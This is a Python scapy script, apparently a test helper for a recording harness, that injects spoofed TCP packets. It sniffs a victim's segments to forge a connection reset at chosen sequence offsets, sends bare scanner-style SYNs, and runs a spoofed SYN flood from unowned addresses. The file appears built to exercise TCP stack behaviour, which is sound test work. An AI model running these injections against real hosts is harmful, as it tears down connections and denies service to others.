#!/usr/bin/env python3
"""Injects what a socket cannot send, with scapy (Debian's python3-scapy), for record.sh.

usage:
  inject.py rst IFACE SRC SPORT DST DPORT OFFSET AT
      Prints "inject: listening" once it watches IFACE for segments DST:DPORT -> SRC:SPORT (the victim's own segments: their ACK
      field is its RCV.NXT) until wall-clock time AT, then sends one RST from SRC:SPORT to
      DST:DPORT with sequence number RCV.NXT + OFFSET: 0 resets, a few thousand lands inside
      the window but not at RCV.NXT (RFC 5961 challenge ACK), 2**30 lies outside the window.
  inject.py syn IFACE SRC SPORT DST DPORT
      Sends one bare SYN from SRC:SPORT, as a SYN scanner does: no socket owns SPORT, so the
      kernel answers the SYN-ACK with a RST.
  inject.py flood IFACE DST DPORT N SOURCES
      A spoofed SYN flood: N SYNs to DST:DPORT from SOURCES addresses of 10.98.0.0/16 (no host
      owns them), one every 5 ms.

Every line it prints starts with "inject:".
"""
import sys
import time

from scapy.all import IP, IPv6, TCP, AsyncSniffer, conf, send

conf.verb = 0


def ip(src, dst):
    return IPv6(src=src, dst=dst) if ":" in src else IP(src=src, dst=dst)


def rst(iface, src, sport, dst, dport, offset, at):
    sport, dport, offset, at = int(sport), int(dport), int(offset), float(at)
    last = {}

    def seen(p):
        t = p[TCP]
        last["ack"], last["seq"] = t.ack, t.seq

    flt = f"tcp and src host {dst} and src port {dport} and dst port {sport}"
    sniffer = AsyncSniffer(
        iface=iface,
        filter=flt,
        prn=seen,
        store=False,
        started_callback=lambda: print("inject: listening", flush=True),
    )
    sniffer.start()
    time.sleep(max(0.0, at - time.time()))
    sniffer.stop()
    if "ack" not in last:
        sys.exit("inject: saw no segment of the victim; nothing sent")
    seq = (last["ack"] + offset) % 2**32
    print(f"inject: victim's RCV.NXT {last['ack']}, RST with seq {seq} (RCV.NXT + {offset})", flush=True)
    send(ip(src, dst) / TCP(sport=sport, dport=dport, flags="R", seq=seq), iface=iface)
    print("inject: sent", flush=True)


def syn(iface, src, sport, dst, dport):
    send(ip(src, dst) / TCP(sport=int(sport), dport=int(dport), flags="S", seq=1_000_000), iface=iface)
    print(f"inject: bare SYN {src}:{sport} -> {dst}:{dport} sent", flush=True)


def flood(iface, dst, dport, n, sources):
    n, sources = int(n), int(sources)
    pkts = [
        IP(src=f"10.98.{1 + i % sources // 250}.{1 + i % sources % 250}", dst=dst)
        / TCP(sport=20000 + i, dport=int(dport), flags="S", seq=1_000_000 + i * 7919)
        for i in range(n)
    ]
    send(pkts, iface=iface, inter=0.005)
    print(f"inject: {n} SYNs from {sources} spoofed sources to {dst}:{dport} sent", flush=True)


if __name__ == "__main__":
    {"rst": rst, "syn": syn, "flood": flood}[sys.argv[1]](*sys.argv[2:])
